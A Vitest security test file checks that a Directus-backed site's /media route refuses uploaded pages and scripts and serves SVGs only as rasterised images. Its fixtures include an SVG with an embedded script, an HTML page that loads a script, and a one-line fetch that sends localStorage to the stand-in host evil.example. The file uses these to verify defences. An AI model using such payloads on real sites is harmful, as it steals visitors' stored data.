// Files served on the site's origin through /media: only raster images the site transformed.
// An uploaded page or script must never run there (visitors' unsent drafts live in its storage).
import { afterAll, describe, expect, inject, it } from 'vitest';
import { startSiteFor } from '../../scripts/lib/stack.mjs';
import { fetchAs } from './demo-users';
import { directusFetch } from './directus-client';

const uploaded: string[] = [];

const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><script>alert(document.domain)</script>' +
  '<rect width="400" height="300" fill="#e4572e"/></svg>';

const files = (scriptId = '00000000-0000-0000-0000-000000000000') => ({
  'page.html': { type: 'text/html', body: `<!doctype html><script src="/media/${scriptId}?w=640&q=80"></script>` },
  'steal.js': { type: 'text/javascript', body: 'fetch("https://evil.example/?d="+JSON.stringify(localStorage))' },
  'logo.svg': { type: 'image/svg+xml', body: SVG_WITH_SCRIPT },
});

type FileName = keyof ReturnType<typeof files>;

/** POST /files (multipart), as the admin (static token) or the demo Editor. */
async function upload(as: 'admin' | 'editor', name: FileName, scriptId?: string, declaredType?: string) {
  const file = files(scriptId)[name];
  const form = new FormData();
  form.append('title', name);
  form.append('file', new Blob([file.body], { type: declaredType ?? file.type }), name);
  const response =
    as === 'admin'
      ? await directusFetch('/files', { method: 'POST', body: form })
      : await fetchAs('editor', '/files', { method: 'POST', body: form });
  const json = (await response.json()) as { data?: { id: string }; errors?: { message: string }[] };
  if (json.data?.id) uploaded.push(json.data.id);
  return { status: response.status, id: json.data?.id, message: json.errors?.[0]?.message };
}

const media = (id: string) =>
  fetch(`${inject('stack').webUrl}/media/${id}?w=640&q=80`, { headers: { Accept: 'image/avif,image/webp,*/*' } });

afterAll(async () => {
  if (uploaded.length > 0) await directusFetch('/files', { method: 'DELETE', body: JSON.stringify(uploaded) });
});

/** PATCH /files/:id as the admin or the Editor (a file's metadata, its type among them). */
const patchFile = (as: 'admin' | 'editor', id: string, data: Record<string, unknown>) => {
  const init = { method: 'PATCH', body: JSON.stringify(data) };
  return as === 'admin' ? directusFetch(`/files/${id}`, init) : fetchAs('editor', `/files/${id}`, init);
};

describe('uploads', () => {
  it("take images only: an editor's .html or .js is refused with a clear message, an .svg accepted", async () => {
    for (const name of ['page.html', 'steal.js'] as const) {
      const refused = await upload('editor', name);
      expect(refused.status, name).toBe(400);
      expect(refused.message, name).toMatch(/invalid content type/);
    }
    expect((await upload('editor', 'logo.svg')).status).toBe(200);
  });

  it("keep an image's type: an editor cannot turn a file into a page afterwards", async () => {
    const svg = await upload('editor', 'logo.svg');
    const response = await patchFile('editor', svg.id!, { type: 'text/html' });
    expect(response.status).toBe(400);
    expect(((await response.json()) as { errors: { message: string }[] }).errors[0]!.message).toMatch(
      /Only images can be stored/,
    );
  });
});

describe('/media on the site origin', () => {
  it('refuses a page or a script (415), even when its bytes came in as an image', async () => {
    // What an editor can get in: a page's and a script's bytes declared as a PNG. The type is
    // then set to what they are (an administrator's slip, or a file from before the upload limit).
    const script = await upload('editor', 'steal.js', undefined, 'image/png');
    const page = await upload('editor', 'page.html', script.id, 'image/png');
    for (const file of [script, page]) {
      expect(file.status).toBe(200);
      const disguised = await media(file.id!);
      expect(disguised.status).toBeGreaterThanOrEqual(400);
      expect(disguised.headers.get('content-type')).toMatch(/^text\/plain/);
    }
    expect((await patchFile('admin', script.id!, { type: 'text/javascript' })).status).toBe(200);
    expect((await patchFile('admin', page.id!, { type: 'text/html' })).status).toBe(200);
    for (const file of [script, page]) {
      const response = await media(file.id!);
      expect(response.status).toBe(415);
      expect(response.headers.get('content-type')).toMatch(/^text\/plain/);
      expect(await response.text()).not.toMatch(/localStorage|<script/);
    }
  });

  it('serves an SVG only rasterised (WebP or JPEG), never as SVG', async () => {
    const svg = await upload('editor', 'logo.svg');
    const image = await media(svg.id!);
    expect(image.status).toBe(200);
    expect(image.headers.get('content-type')).toBe('image/webp');
    const bytes = Buffer.from(await image.arrayBuffer());
    expect(bytes.subarray(0, 4).toString('latin1')).toBe('RIFF');
    expect(bytes.subarray(8, 12).toString('latin1')).toBe('WEBP');
    expect(bytes.toString('latin1')).not.toContain('<script');
    // Browsers without WebP get JPEG.
    const jpeg = await fetch(`${inject('stack').webUrl}/media/${svg.id}?w=320&q=80`, { headers: { Accept: '*/*' } });
    expect(jpeg.headers.get('content-type')).toBe('image/jpeg');
    expect(Buffer.from(await jpeg.arrayBuffer()).subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
  });

  it('is never taken for a page, whatever the case of its path', async () => {
    const svg = await upload('admin', 'logo.svg');
    for (const prefix of ['/MEDIA/', '/Media/']) {
      for (let time = 0; time < 2; time++) {
        const image = await fetch(`${inject('stack').webUrl}${prefix}${svg.id}?w=640&q=80`, {
          headers: { Accept: 'image/webp' },
        });
        expect(image.headers.get('x-cache')).toBeNull();
        expect(image.headers.get('content-security-policy')).not.toMatch(/sha256-/);
        await image.arrayBuffer();
      }
    }
  });
});

describe('/media transforms', () => {
  it('take only the quality the site uses', async () => {
    const svg = await upload('admin', 'logo.svg');
    const get = (query: string) => fetch(`${inject('stack').webUrl}/media/${svg.id}?${query}`);
    for (const quality of ['1', '79', '81', '100']) expect((await get(`w=320&q=${quality}`)).status).toBe(400);
    expect((await get('w=320&q=80')).status).toBe(200);
  });

  it('count against the client’s budget when not yet in memory, and never once they are', async () => {
    const svg = await upload('admin', 'logo.svg');
    const { directusUrl, websiteToken } = inject('stack');
    const web = await startSiteFor({ directusUrl, websiteToken }, { SITE_RATE_LIMIT: '2' });
    try {
      const get = (width: number) =>
        fetch(`${web.url}/media/${svg.id}?w=${width}&q=80`, { headers: { Accept: 'image/webp' } });
      expect((await get(320)).status).toBe(200);
      expect((await get(480)).status).toBe(200);
      const refused = await get(640);
      expect(refused.status).toBe(429);
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      for (let time = 0; time < 5; time++) expect((await get(320)).status).toBe(200);
    } finally {
      await web.stop();
    }
  });
});
